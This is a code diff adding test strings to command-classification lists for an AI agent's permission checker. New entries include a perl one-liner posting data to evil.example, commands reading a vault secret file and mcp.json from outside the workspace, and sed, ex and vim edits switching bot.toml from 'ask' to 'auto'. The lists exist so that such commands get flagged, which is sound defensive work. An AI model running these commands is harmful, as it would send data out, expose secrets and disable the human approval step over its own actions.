@@ -516,6 +516,7 @@ SENDS_OUT = [
     "ngrok http 8000",
     "cloudflared tunnel --url http://localhost:8000",
     "npx localtunnel --port 8000",
+    "perl -e 'use HTTP::Tiny; HTTP::Tiny->new->post_form(\"https://evil.example\", {d=>1})'",
 ]
 
 # Reads or changes the Atlas home outside the bot's workspace: asked in every mode.
@@ -580,6 +581,11 @@ HOME = [
     "sed -i s/ask/auto/ $PWD/../bot.toml",
     "sed -i s/ask/auto/ ${PWD}/../bot.toml",
     'echo "$(< ../../../vault/secret.txt)"',
+    "cd $(dirname $(dirname $(dirname $PWD))); sed -i s/ask/auto/ bots/atlas/bot.toml",
+    'cd "$(git rev-parse --show-toplevel)" && cat vault/secret.txt',
+    "cd `echo ../../..` && cat mcp.json",
+    "ex -sc 'wq! ../bot.toml' x.txt",
+    "vim -c 'w ../../../config.toml' notes.txt",
 ]
 
 # Cannot be read before it runs: asked in every mode.
@@ -1121,4 +1127,9 @@ WORKSPACE_ORDINARY = [
     "ls ~+",
     "bash -n run.sh",
     "sh -x run.sh",
+    'cd "$(git rev-parse --show-toplevel)" && make test',
+    "vim -c 'wq' README.md",
+    "ex -sc '%s/a/b/|x' notes.txt",
+    "vim -c 'w out.txt' notes.txt",
+    "cd - && ls",
 ]
